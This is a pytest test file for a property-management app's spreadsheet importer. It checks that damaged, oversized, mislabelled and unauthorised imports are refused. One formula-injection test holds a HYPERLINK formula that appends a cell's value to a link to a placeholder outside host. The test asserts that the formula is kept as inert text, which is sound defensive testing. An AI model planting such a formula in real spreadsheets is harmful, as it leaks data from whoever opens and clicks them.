"""Files that are broken, hostile or not meant for us: each has a clear answer, and none changes anything."""

from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path

import pytest

from gongdan.domain.headings import HeadingNotFound
from gongdan.errors import GongdanError, InvalidInput, NotAllowed, PluginDisabled
from gongdan.services import import_runs
from gongdan.services.desk import CompanyDesk
from gongdan.services.imports import RunView, Source
from gongdan.sheets.errors import (
    BrokenQuotes,
    DamagedFile,
    EmptyFile,
    SheetNotFound,
    UnreadableText,
    WebPageFile,
    WorkbookTooLarge,
)
from gongdan.testing.factories import People
from tests.core.services.importing.lists import CASE_ROWS, UNIT_HEADINGS, UNIT_ROWS, cases, units, write_list
from tests.core.services.importing.pictures import picture
from tests.core.sheets.workbook_files import make_xlsx

Unchanged = Callable[[], AbstractContextManager[None]]

DATA = Path(__file__).parents[3] / "data"


@pytest.mark.parametrize(
    ("file", "refusal"),
    [("空文件.csv", EmptyFile), ("截断.xlsx", DamagedFile), ("网页表格.xls", WebPageFile)],
)
def test_a_file_that_is_no_table_is_refused(
    company_desk: CompanyDesk, unchanged: Unchanged, file: str, refusal: type[GongdanError]
) -> None:
    for dry_run in (True, False):
        with unchanged(), pytest.raises(refusal, match=Path(file).stem):
            company_desk.imports.run("units", Source(path=DATA / file), dry_run=dry_run)


def test_a_text_file_named_as_a_workbook_is_read_and_the_run_says_so(company_desk: CompanyDesk) -> None:
    run = company_desk.imports.run("units", Source(path=DATA / "其实是csv.xlsx"))
    assert (run.state, run.encoding) == ("finished", "gb18030")
    assert list(picture(company_desk)["assets"]) == ["/8", "/8/1", "/8/1/101"]
    (remark,) = run.remarks
    assert remark.text.format(**remark.params) == "文件名以 .xlsx 结尾，内容其实是 csv，已按内容读取"


def test_one_cell_of_200_megabytes_is_refused(company_desk: CompanyDesk, tmp_path: Path, unchanged: Unchanged) -> None:
    path = make_xlsx(tmp_path / "长.xlsx", f'<row><c t="inlineStr"><is><t>{"A" * 190_000_000}</t></is></c></row>')
    with unchanged(), pytest.raises(WorkbookTooLarge):
        company_desk.imports.run("units", Source(path=path))


def test_a_text_file_that_breaks_in_its_middle_is_refused_before_its_first_row(
    company_desk: CompanyDesk, tmp_path: Path, unchanged: Unchanged, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(import_runs, "BATCH_ROWS", 1)
    source = units(tmp_path)
    with source.path.open("a", encoding="utf-8") as file:
        file.write('5栋,1单元,"101\n')
    with unchanged(), pytest.raises(BrokenQuotes):
        company_desk.imports.run("units", source)


def test_an_encoding_or_a_sheet_that_is_not_there_is_refused(
    company_desk: CompanyDesk, tmp_path: Path, unchanged: Unchanged
) -> None:
    text = units(tmp_path).path
    with unchanged():
        for encoding in ("ascii", "没有这种"):
            with pytest.raises(UnreadableText):
                company_desk.imports.run("units", Source(path=text, encoding=encoding))
        with pytest.raises(SheetNotFound):
            company_desk.imports.run("units", Source(path=DATA / "公式注入.xlsx", sheet="二月"))


def test_a_list_of_another_kind_is_refused(company_desk: CompanyDesk, tmp_path: Path, unchanged: Unchanged) -> None:
    with unchanged(), pytest.raises(HeadingNotFound, match="缺少：日期、内容"):
        company_desk.imports.run("cases", units(tmp_path))


def test_a_kind_that_does_not_exist_is_refused_and_the_known_ones_are_named(
    company_desk: CompanyDesk, tmp_path: Path, unchanged: Unchanged
) -> None:
    with unchanged(), pytest.raises(InvalidInput) as refused:
        company_desk.imports.run("flats", units(tmp_path))
    (problem,) = refused.value.problems
    assert (problem.field, problem.value, problem.params) == ("kind", "flats", {"known": "units、cases"})


def test_a_kind_whose_plugin_the_company_has_not_enabled_is_refused(
    company_desk: CompanyDesk, other_desk: CompanyDesk, tmp_path: Path, unchanged: Unchanged
) -> None:
    other_desk.plugins.disable("property_mgmt")
    there = other_desk.installation.at(other_desk.company)
    with unchanged():
        for act in (
            lambda: there.imports.run("units", units(tmp_path)),
            lambda: there.imports.begin("units", units(tmp_path)),
            lambda: there.imports.preview("units", units(tmp_path)),
            lambda: there.exports.write("units", tmp_path / "导出.csv"),
        ):
            with pytest.raises(PluginDisabled):
                act()
    assert (there.imports.kinds(), there.exports.kinds()) == ((), [])
    assert company_desk.imports.run("units", units(tmp_path)).state == "finished"


# --- Rows ------------------------------------------------------------------------------------


def issues(desk: CompanyDesk, run: RunView) -> list[tuple[int, str, str, str, str]]:
    """Return row, verdict, reason, column and cell of everything that a run complained of."""
    return [
        (row.row, issue.verdict, issue.reason, issue.column, str(issue.raw))
        for row in desk.imports.rows(run.id)
        for issue in row.issues
    ]


def test_of_two_rows_with_one_key_the_second_is_refused(company_desk: CompanyDesk, tmp_path: Path) -> None:
    again = ("３栋", "二单元", "0501", "", "", "别人", "13600136000", "", "")
    run = company_desk.imports.run("units", units(tmp_path, [*UNIT_ROWS, again]))
    assert issues(company_desk, run)[-1] == (7, "refused", "duplicate", "", "3-2-501")
    assert "别人" not in repr(picture(company_desk))


def test_a_case_in_an_unknown_unit_is_taken_and_flagged(company_desk: CompanyDesk, tmp_path: Path) -> None:
    company_desk.imports.run("units", units(tmp_path))
    run = company_desk.imports.run("cases", cases(tmp_path))
    assert issues(company_desk, run) == [
        (5, "flagged", "bad_format", "phone", "12345"),
        (5, "flagged", "unknown_reference", "room", "9-9-999"),
        (6, "refused", "bad_date", "date", "2026-02-30"),
    ]
    assert len(picture(company_desk)["tickets"]) == 5


def test_numbers_that_lost_their_last_digits_are_left_empty_and_flagged(
    company_desk: CompanyDesk, tmp_path: Path
) -> None:
    row = ("3栋", "2单元", "501", "", "", "张三", "13800138000", "1.10105E+17", "")
    run = company_desk.imports.run("units", units(tmp_path, [row]))
    assert issues(company_desk, run) == [(2, "flagged", "precision_lost", "identity", "1.10***E+17")]
    assert picture(company_desk)["assets"]["/3/2/501"][-1] == ["precision_lost"]
    assert "('person', '张三', None, '', '', ['13800138000'])" in picture(company_desk)["parties"]


def test_a_formula_in_a_name_or_a_text_is_a_text(company_desk: CompanyDesk) -> None:
    company_desk.imports.run("units", Source(path=DATA / "公式注入.xlsx"))
    remarks = [
        values[5].get("remark") for path, values in picture(company_desk)["assets"].items() if path[2:].count("/") > 1
    ]
    assert remarks == ['=HYPERLINK("http://192.0.2.1/"&A1,"点我")', "+8613800000000", "-1+1", "正常备注"]


# --- Old and open workbooks ------------------------------------------------------------------


@pytest.mark.parametrize("file", ["旧版台账.xls", "开放格式台账.ods"])
def test_old_and_open_workbooks_bring_the_same_units(company_desk: CompanyDesk, file: str) -> None:
    run = company_desk.imports.run("units", Source(path=DATA / file))
    seen = picture(company_desk)
    assert run.state == "finished"
    assert seen["assets"]["/3/1/101"][-2:] == ({"area": "89.5", "moved_in_on": "2024-09-18"}, [])
    assert seen["assets"]["/3/1/102"][-2:] == ({"area": "100.45", "moved_in_on": "2024-09-18"}, [])
    names = [link for link in seen["links"] if "/3/1/102" in link]
    assert ["李四" in name or "王五" in name for name in names] == [True, True]


# --- Permissions -----------------------------------------------------------------------------


def test_who_lacks_the_permission_neither_imports_nor_exports(
    company_desk: CompanyDesk, person: People, tmp_path: Path, unchanged: Unchanged
) -> None:
    run = company_desk.imports.run("cases", cases(tmp_path, CASE_ROWS[:2]))
    agent = person("agent")
    source = write_list(tmp_path / "台账.csv", UNIT_HEADINGS, UNIT_ROWS)
    with unchanged():
        for act in (
            lambda: agent.imports.run("units", source),
            lambda: agent.imports.run("units", source, dry_run=True),
            lambda: agent.imports.begin("units", source),
            lambda: agent.imports.preview("units", source),
            lambda: agent.imports.resume(run.id, source),
            lambda: agent.imports.undo(run.id),
            agent.imports.all,
            lambda: agent.imports.find(run.id),
            lambda: list(agent.imports.rows(run.id)),
        ):
            with pytest.raises(NotAllowed) as refused:
                act()
            assert refused.value.permission == "import.run"
        with pytest.raises(NotAllowed) as refused:
            agent.exports.write("units", tmp_path / "导出.csv")
        assert refused.value.permission == "export.run"
    assert not (tmp_path / "导出.csv").exists()
